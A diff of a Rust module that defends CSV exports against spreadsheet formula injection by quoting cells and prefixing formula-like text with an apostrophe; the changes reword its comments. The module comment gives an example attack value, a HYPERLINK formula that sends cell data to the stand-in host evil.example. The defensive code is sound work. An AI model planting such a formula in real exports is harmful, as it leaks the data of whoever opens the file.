@@ -1,9 +1,10 @@
 //! CSV injection: texts in an export cannot become spreadsheet formulas (CWE-1236, API8:2023).
 //!
-//! **Attack**: a customer named `=HYPERLINK("https://evil.example?"&A1,"Click")`. A spreadsheet evaluates such a cell as a formula,
-//! with the rights of the person who opened the export.
-//! **Control**: RFC 4180 by the csv crate. Every text is quoted, so that a semicolon or a line break in it starts no new cell. A
-//! text that begins like a formula gets an apostrophe in front, also after leading spaces and for full-width characters.
+//! **Attack**: a customer is named `=HYPERLINK("https://evil.example?"&A1,"Click")`. A spreadsheet evaluates such a
+//! cell as a formula, with the rights of the person who opens the export.
+//! **Control**: the csv crate writes RFC 4180. Every text is quoted, so that a semicolon or a line break in a text does
+//! not start a new cell. A text that begins like a formula gets an apostrophe in front, also after leading spaces and
+//! for full-width characters.
 //! **Limits**: a program that removes the apostrophe and evaluates the rest.
 //! **ASVS**: 1.2.1, 1.2.10 · **Test**: `attacks::files::csv_injection`
 
@@ -11,16 +12,16 @@ use std::borrow::Cow;
 
 use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};
 
-/// The first characters of formulas.
+/// The characters with which a formula can begin.
 const FORMULA_PREFIXES: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 
-/// Creates a CSV writer into memory.
+/// Creates a CSV writer that writes to memory.
 #[must_use]
 pub fn writer() -> Writer<Vec<u8>> {
     WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).from_writer(Vec::new())
 }
 
-/// Escapes user-supplied text for a cell.
+/// Escapes a text from a user, so that a spreadsheet does not evaluate it.
 #[must_use]
 pub fn escape_cell(text: &str) -> Cow<'_, str> {
     if text.trim_start_matches(' ').starts_with(FORMULA_PREFIXES) {
